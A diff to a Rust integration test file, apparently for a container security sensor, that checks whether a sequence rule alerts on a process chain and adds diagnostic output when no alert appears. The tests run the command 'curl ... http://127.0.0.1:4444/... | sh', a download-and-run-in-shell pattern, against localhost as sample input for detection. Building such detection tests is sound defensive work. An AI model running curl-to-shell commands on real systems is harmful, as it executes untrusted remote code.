@@ -12,7 +12,7 @@ use std::time::Duration;
 
 use serde_json::Value;
 
-use tests::cgroup::{cri_container, move_into};
+use tests::cgroup::{cri_container, move_into, Cgroups};
 use tests::{args_of, get, marker, read_lines, skip_or_fail, start_or_skip, wait_line};
 
 const RULE_ID: &str = "a750bbcc-863f-41ef-9924-fd8224e23694";
@@ -27,9 +27,10 @@ fn d4c_rules() -> String {
 }
 
 /// Runs `script` with bash inside a fresh CRI container cgroup: bash waits
-/// until it has been moved, then runs the chain. Returns the container id.
-fn run_in_container(script: &str) -> Option<String> {
-    let Some((_cg, dir, id, _uid)) = cri_container() else {
+/// until it has been moved, then runs the chain. Returns the container id
+/// and the cgroups, to keep until the sensor has seen the chain.
+fn run_in_container(script: &str) -> Option<(String, Cgroups)> {
+    let Some((cg, dir, id, _uid)) = cri_container() else {
         skip_or_fail("no cgroup2 hierarchy to create a container cgroup in");
         return None;
     };
@@ -47,10 +48,7 @@ fn run_in_container(script: &str) -> Option<String> {
         writeln!(stdin, "go").expect("go");
     }
     child.wait().expect("bash ran");
-    // Keep the cgroup until the sensor has seen the chain.
-    std::thread::sleep(Duration::from_millis(300));
-    drop(_cg);
-    Some(id)
+    Some((id, cg))
 }
 
 fn group_alerts<'a>(alerts: &'a [Value], m: &str) -> Vec<(&'a Value, Vec<&'a Value>)> {
@@ -84,18 +82,33 @@ fn payload_piped_to_shell_fires_once_with_its_steps() {
         return;
     };
     let m = marker("seqpipe");
-    let Some(cid) = run_in_container(&format!(
-        "curl -s -m 1 http://127.0.0.1:4444/{m} | sh"
-    )) else {
+    let Some((cid, _cgroups)) =
+        run_in_container(&format!("curl -s -m 1 http://127.0.0.1:4444/{m} | sh"))
+    else {
         return;
     };
     let alerts_path = sensor.alerts_path();
     let found = wait_line(&alerts_path, Duration::from_secs(15), |a| {
-        get(a, "kibana.alert.rule.rule_id") == RULE_ID
-            && args_of(a).iter().any(|x| x.contains(&m))
+        get(a, "kibana.alert.rule.rule_id") == RULE_ID && args_of(a).iter().any(|x| x.contains(&m))
     });
     let summary = sensor.stop().expect("sensor stops");
-    assert!(found.is_ok(), "no sequence alert for {m}");
+    if found.is_err() {
+        let chain: Vec<String> = read_lines(&sensor.events_path())
+            .iter()
+            .filter(|e| args_of(e).iter().any(|x| x.contains(&m)) || get(e, "process.name") == "sh")
+            .map(|e| {
+                format!(
+                    "{} {} {:?} parent={} container={}",
+                    get(e, "@timestamp"),
+                    get(e, "event.action"),
+                    args_of(e),
+                    get(e, "process.parent.entity_id"),
+                    get(e, "container.id")
+                )
+            })
+            .collect();
+        panic!("no sequence alert for {m}: {summary}\n{}", chain.join("\n"));
+    }
     let alerts = read_lines(&alerts_path);
     let groups = group_alerts(&alerts, &m);
     assert_eq!(groups.len(), 1, "{groups:#?}");
@@ -124,7 +137,7 @@ fn the_same_steps_past_maxspan_give_nothing() {
         return;
     };
     let m = marker("seqslow");
-    let Some(_cid) = run_in_container(&format!(
+    let Some((_cid, _cgroups)) = run_in_container(&format!(
         "curl -s -m 1 http://127.0.0.1:4444/{m}; sleep 2; sh -c true"
     )) else {
         return;
